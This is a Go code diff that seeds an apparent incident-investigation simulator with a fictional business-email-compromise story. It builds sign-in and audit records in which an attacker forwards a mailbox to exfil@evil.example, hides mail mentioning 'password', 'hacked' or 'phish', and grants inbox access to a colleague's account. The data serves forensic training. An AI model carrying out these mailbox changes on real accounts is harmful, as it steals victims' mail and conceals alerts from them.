@@ -15,6 +15,14 @@ const (
 	HomeIPv6         = "2001:db8:10::25"
 	// AttackBurst is how many messages to external recipients the attacker sent.
 	AttackBurst = 45
+	// AttackerSession and AttackerSession2 are the Entra ID sessions of the attacker's
+	// sign-ins from AttackerIP (Lagos) and AttackerIPv6 (Moscow): the sign-ins' sessionId
+	// and the AADSessionId of the audit records of what the attacker did in them.
+	AttackerSession  = "5e55100a-7a7a-4e0a-9bad-00000000a771"
+	AttackerSession2 = "5e55100a-7a7a-4e0a-9bad-00000000a772"
+	// AttackerReadItems is how many messages the attacker opened (MailItemsAccessed Bind)
+	// in AttackerSession; in AttackerSession2 the attacker synced the inbox whole.
+	AttackerReadItems = 25
 )
 
 // seedAttackStory writes what the unified audit log, the sign-in logs, the directory audit
@@ -47,9 +55,13 @@ func seedAttackStory(s *Sim, d Demo) {
 			FailureReason: "Error validating credentials due to invalid username or password."})
 	}
 	s.AddSignIn(SignIn{UserID: user, Time: ago(2*time.Hour + 50*time.Minute), App: "OfficeHome", ClientApp: "Browser",
-		IP: AttackerIP, City: "Lagos", State: "Lagos", Country: AttackerCountry, Risk: "medium"})
+		IP: AttackerIP, City: "Lagos", State: "Lagos", Country: AttackerCountry, Risk: "medium", SessionID: AttackerSession})
 	s.AddSignIn(SignIn{UserID: user, Time: ago(2*time.Hour + 25*time.Minute), App: "Office 365 Exchange Online", ClientApp: "Browser",
-		IP: AttackerIPv6, City: "Moscow", State: "Moscow", Country: AttackerCountry2})
+		IP: AttackerIPv6, City: "Moscow", State: "Moscow", Country: AttackerCountry2, SessionID: AttackerSession2})
+	// The attacker's token at work: a non-interactive sign-in in the Lagos session (Graph
+	// beta lists it; v1.0 does not).
+	s.AddSignIn(SignIn{UserID: user, Time: ago(2*time.Hour + 15*time.Minute), App: "Office 365 Exchange Online", ClientApp: "Mobile Apps and Desktop clients",
+		IP: AttackerIP, City: "Lagos", State: "Lagos", Country: AttackerCountry, SessionID: AttackerSession, NonInteractive: true})
 
 	// The attacker's Authenticator registration ("User registered security info", 2 h 45 min
 	// ago, from AttackerIP) is written by AddAuthMethod in seedDemoAuth.
@@ -62,11 +74,29 @@ func seedAttackStory(s *Sim, d Demo) {
 		Service: "Core Directory", InitiatorID: d.ManagerID, InitiatorUPN: d.ManagerUPN, IP: "", TargetID: user, TargetName: d.UPN, TargetType: "User"})
 
 	s.AddAuditRecord(AuditRecord{UserID: d.UPN, Time: ago(2*time.Hour + 30*time.Minute), Operation: "New-InboxRule", ClientIP: AttackerIP + ":50412",
-		ObjectID: d.UPN + `\Sync`, Parameters: [][2]string{{"Mailbox", d.UPN}, {"Name", "Sync"}, {"ForwardTo", "exfil@evil.example"}, {"StopProcessingRules", "True"}}})
+		ObjectID: d.UPN + `\Sync`, Parameters: [][2]string{{"Mailbox", d.UPN}, {"Name", "Sync"}, {"ForwardTo", "exfil@evil.example"}, {"StopProcessingRules", "True"}},
+		SessionID: AttackerSession})
 	s.AddAuditRecord(AuditRecord{UserID: d.UPN, Time: ago(2*time.Hour + 28*time.Minute), Operation: "New-InboxRule", ClientIP: AttackerIP + ":50419",
 		ObjectID: d.UPN + `\.`, Parameters: [][2]string{{"Mailbox", d.UPN}, {"Name", "."}, {"MoveToFolder", "RSS Feeds"}, {"MarkAsRead", "True"}, {"SubjectOrBodyContainsWords", "password;hacked;phish"}}})
 	s.AddAuditRecord(AuditRecord{UserID: d.UPN, Time: ago(2*time.Hour + 20*time.Minute), Operation: "Set-Mailbox", ClientIP: "[" + AttackerIPv6 + "]:443",
-		ObjectID: d.UPN, Parameters: [][2]string{{"Identity", d.UPN}, {"ForwardingSmtpAddress", "smtp:exfil@evil.example"}, {"DeliverToMailboxAndForward", "True"}}})
+		ObjectID: d.UPN, Parameters: [][2]string{{"Identity", d.UPN}, {"ForwardingSmtpAddress", "smtp:exfil@evil.example"}, {"DeliverToMailboxAndForward", "True"}},
+		SessionID: AttackerSession2})
+	// The attacker lets the colleague's account (reached below) read the inbox.
+	s.AddAuditRecord(AuditRecord{UserID: d.UPN, Time: ago(2*time.Hour + 18*time.Minute), Operation: "Add-MailboxFolderPermission", ClientIP: AttackerIP + ":50433",
+		ObjectID: d.UPN + `:\Inbox`, Parameters: [][2]string{{"Identity", d.UPN + `:\Inbox`}, {"User", d.AssistantUPN}, {"AccessRights", "Reviewer"}},
+		SessionID: AttackerSession})
+	// What the attacker read: messages opened in the Lagos session, the inbox synced whole
+	// in the Moscow one; and the user's own reading the days before.
+	for i, n := range []int{12, 8, 5} {
+		s.AddAuditRecord(AuditRecord{UserID: d.UPN, Time: ago(2*time.Hour + time.Duration(12-i*3)*time.Minute), Operation: "MailItemsAccessed",
+			ClientIP: AttackerIP, MailAccessType: "Bind", Items: n, SessionID: AttackerSession})
+	}
+	s.AddAuditRecord(AuditRecord{UserID: d.UPN, Time: ago(2*time.Hour + 22*time.Minute), Operation: "MailItemsAccessed",
+		ClientIP: AttackerIPv6, MailAccessType: "Sync", SessionID: AttackerSession2})
+	for day := 3; day >= 1; day-- {
+		s.AddAuditRecord(AuditRecord{UserID: d.UPN, Time: ago(time.Duration(day)*24*time.Hour + time.Hour), Operation: "MailItemsAccessed",
+			ClientIP: HomeIP, MailAccessType: "Bind", Items: 6})
+	}
 
 	// The attacker tries the same address on a colleague: two failed guesses, then in.
 	// Nothing of Lee's is changed; the investigation of Adele finds Lee as related.
